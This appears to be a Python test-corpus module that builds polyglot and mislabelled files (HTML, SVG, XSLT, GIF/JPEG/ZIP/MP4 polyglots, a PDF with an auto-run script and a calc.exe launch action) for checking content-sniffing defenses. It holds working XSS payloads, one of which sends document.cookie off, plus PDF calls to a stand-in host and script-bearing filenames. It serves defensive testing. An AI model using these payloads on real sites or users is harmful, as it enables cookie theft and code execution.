"""Files that would run something if a browser took them for what they are made to look like.

What they run asks for `/it-ran` in several ways, opens a dialog, and changes title and address: each can be seen.
"""

import base64
from dataclasses import dataclass

from tests.corpus.documents import archive, pdf_of
from tests.pictures import photograph

MARK = "it-ran"
"""Stands in whatever happens when one of them runs."""
RUNS = (
    f"document.title='{MARK}';new Image().src='/{MARK}?'+document.cookie;fetch('/{MARK}');alert('{MARK}');"
    f"location='/{MARK}'"
)
_SCRIPT = f"<script>{RUNS}</script>"
_HTML = f'<!DOCTYPE html><html><body onload="{RUNS}">{_SCRIPT}<img src=x: onerror="{RUNS}"></body></html>'
_XHTML = "http://www.w3.org/1999/xhtml"
_SVG = "http://www.w3.org/2000/svg"
_IN_A_NAME = f"fetch('{MARK}');document.title='{MARK}';alert('{MARK}')"
"""Without a slash, which no name may have."""


@dataclass(frozen=True, slots=True)
class Active:
    """One file. `declared` is what its sender says that it is; `runs_as` the type under which a browser,
    told no more, runs what is in it; "" where browsers of today do not.
    """

    name: str
    data: bytes
    declared: str = ""
    runs_as: str = ""


def _gif() -> bytes:
    """A sound picture of one pixel, with a page in its comment."""
    comment = _SCRIPT.encode()
    blocks = b"".join(
        bytes([len(comment[at : at + 255])]) + comment[at : at + 255] for at in range(0, len(comment), 255)
    )
    return (
        b"GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff" + b"!\xfe" + blocks + b"\0"
        b",\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;"
    )


def _jpeg_script() -> bytes:
    """A sound picture whose first marks are a word of JavaScript, the rest of it a comment."""
    picture = photograph()
    head = b"\xff\xd8\xff\xe0\x2f\x2a" + b"JFIF\0\x01\x01\0\0\x01\0\x01\0\0"
    script = f"*/=1;{RUNS}/*".encode()
    comment = b"\xff\xfe" + (len(script) + 2).to_bytes(2, "big") + script
    return head.ljust(4 + 0x2F2A, b"\0") + comment + picture[2:] + b"*/"


def _pdf() -> bytes:
    """A document that runs a script when it is opened, and one that would start a program."""
    site = f"http://{MARK}.example/"
    ways = (
        f"this.submitForm('{site}')",
        f"app.launchURL('{site}',true)",
        f"this.getURL('{site}')",
        f"app.alert('{MARK}')",
    )
    script = "".join(f"try{{{way}}}catch(e){{}}" for way in ways)
    return pdf_of(
        [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R /AA << /WC 5 0 R >> >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /AA << /O 5 0 R >> >>",
            f"<< /S /JavaScript /JS ({script.replace('(', chr(92) + '(').replace(')', chr(92) + ')')}) >>".encode(),
            b"<< /S /Launch /F (calc.exe) /Next << /S /URI /URI (http://it-ran.example/) >> >>",
        ]
    )


def _mhtml() -> bytes:
    head = 'MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="b"; type="text/html"\r\n\r\n'
    part = f"--b\r\nContent-Type: text/html\r\nContent-Location: http://a.example/\r\n\r\n{_HTML}\r\n--b--\r\n"
    return (head + part).encode()


def _styled() -> str:
    style = (
        "<xsl:stylesheet id='style' version='1.0' xmlns:xsl='http://www.w3.org/1999/XSL/Transform'>"
        f"<xsl:template match='/'><html xmlns='{_XHTML}'><script>{RUNS}</script></html></xsl:template></xsl:stylesheet>"
    )
    kind = "<!DOCTYPE doc [<!ATTLIST xsl:stylesheet id ID #REQUIRED>]>"
    return f"<?xml version='1.0'?><?xml-stylesheet type='text/xsl' href='#style'?>{kind}<doc>{style}</doc>"


def _svg(inner: str, **attributes: str) -> bytes:
    told = "".join(f' {name}="{value}"' for name, value in attributes.items())
    return f'<svg xmlns="{_SVG}" width="9" height="9"{told}>{inner}</svg>'.encode()


_FOREIGN = (
    f'<foreignObject width="9" height="9"><div xmlns="{_XHTML}"><img src="x:" onerror="{RUNS}"/></div></foreignObject>'
)
_BASE64 = base64.b64encode(_HTML.encode()).decode()

CONTENTS = (
    Active("page.html", _HTML.encode(), "text/html", runs_as="text/html"),
    Active("page.txt", _HTML.encode(), "text/plain", runs_as="text/html"),
    Active("page.png", _HTML.encode(), "image/png", runs_as="text/html"),
    Active("page.pdf", _HTML.encode(), "application/pdf", runs_as="text/html"),
    Active("page", f"Dear all,\n{_SCRIPT}".encode(), "text/html", runs_as="text/html"),
    Active("late.txt", b" " * 5000 + _HTML.encode(), "text/html", runs_as="text/html"),
    Active("marked.html", b"\xef\xbb\xbf" + _HTML.encode(), "text/html", runs_as="text/html"),
    Active("wide.html", b"\xff\xfe" + _HTML.encode("utf-16-le"), "text/html", runs_as="text/html"),
    Active("seven.txt", _SCRIPT.encode("utf-7"), "text/html; charset=utf-7"),
    Active(f'"><img src=x onerror={_IN_A_NAME}>.html', _HTML.encode(), "text/html", runs_as="text/html"),
    Active(f"'-{_IN_A_NAME}-'.txt", b"harmless", "text/plain"),
    Active("onload.svg", _svg("", onload=RUNS), "image/svg+xml", runs_as="image/svg+xml"),
    Active("script.svg", _svg(_SCRIPT), "image/svg+xml", runs_as="image/svg+xml"),
    Active("foreign.svg", _svg(_FOREIGN), "image/svg+xml", runs_as="image/svg+xml"),
    Active("script.xml", f"<a><h:script xmlns:h='{_XHTML}'>{RUNS}</h:script></a>".encode(), runs_as="text/xml"),
    Active("page.xhtml", f"<html xmlns='{_XHTML}'>{_SCRIPT}</html>".encode(), runs_as="application/xhtml+xml"),
    Active("styled.xml", _styled().encode(), "text/xml"),
    Active("code.js", RUNS.encode(), "text/javascript", runs_as="text/javascript"),
    Active("rows.json", f"[1];{RUNS}".encode(), "application/json", runs_as="text/javascript"),
    Active("rows.csv", f"a=1;{RUNS}".encode(), "text/csv", runs_as="text/javascript"),
    Active("both.gif", _gif(), "image/gif", runs_as="text/html"),
    Active("both.jpg", _jpeg_script(), "image/jpeg", runs_as="text/javascript"),
    Active("both.pdf", f"%PDF-1.4\n{_HTML}".encode(), "application/pdf", runs_as="text/html"),
    Active("both.zip", archive({"x": _HTML}, stored_first=True), "application/zip", runs_as="text/html"),
    Active("both.mp4", b"\0\0\0\x18ftypisom\0\0\0\0isommp41" + _HTML.encode(), "video/mp4", runs_as="text/html"),
    Active("action.pdf", _pdf(), "application/pdf"),
    Active("letter.mht", _mhtml(), "multipart/related"),
    Active("letter.eml", f"Subject: x\nContent-Type: text/html\n\n{_HTML}".encode(), runs_as="text/html"),
    Active("data.url", f"[InternetShortcut]\nURL=data:text/html;base64,{_BASE64}".encode()),
)
